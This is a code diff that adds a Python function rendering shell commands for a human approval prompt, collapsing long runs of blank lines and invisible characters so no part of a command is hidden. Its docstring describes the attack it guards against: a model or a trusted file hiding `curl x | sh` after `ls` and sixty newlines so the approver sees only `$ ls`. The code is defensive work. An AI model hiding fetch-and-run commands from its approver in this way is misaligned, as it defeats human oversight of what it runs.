@@ -11,6 +11,7 @@ instead, and the tool itself reports the real error when it runs. A file over
 from __future__ import annotations
 
 import os
+import re
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
@@ -82,3 +83,38 @@ def _apply(tool: str, args: Mapping[str, Any], text: str) -> str | None:
             return None
         text = text.replace(old, new) if edit.get("replace_all") else text.replace(old, new, 1)
     return text
+
+
+_INVISIBLE = (
+    r"(?:[^\S\n]|[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff])"
+)
+"""What shows as nothing: blanks (Unicode's too), controls (a front end drops them) and the
+zero-width and direction marks."""
+_LONG_SPACE = re.compile(f"{_INVISIBLE}{{16,}}")
+"""A run of them long enough to push the rest of a line out of sight, or onto lines that wrap
+blank."""
+_ANY_INVISIBLE = re.compile(_INVISIBLE)
+
+
+def shown_command(command: str) -> str:
+    """A command line as an approval shows it: what it runs, none of it out of sight.
+
+    A model (or a file it was told to trust) can hide the part that matters after a screenful
+    of blank lines (`ls` + 60 newlines + `curl x | sh`) or a run of spaces: the pane showed
+    `$ ls` and blank space. Each run of more than one blank line becomes one line saying how
+    many, a long run of blanks within a line says its length, and trailing blanks go. What
+    runs is the command as given.
+    """
+    command = _LONG_SPACE.sub(lambda run: f" ⟨{len(run[0])} blanks⟩ ", command)
+    shown: list[str] = []
+    blank = 0
+    for line in [*command.split("\n"), None]:
+        if line is not None and not _ANY_INVISIBLE.sub("", line):
+            blank += 1
+            continue
+        if blank:
+            shown.extend([""] if blank == 1 else [f"⟨{blank} blank lines⟩"])
+            blank = 0
+        if line is not None:
+            shown.append(line.rstrip())
+    return "\n".join(shown)
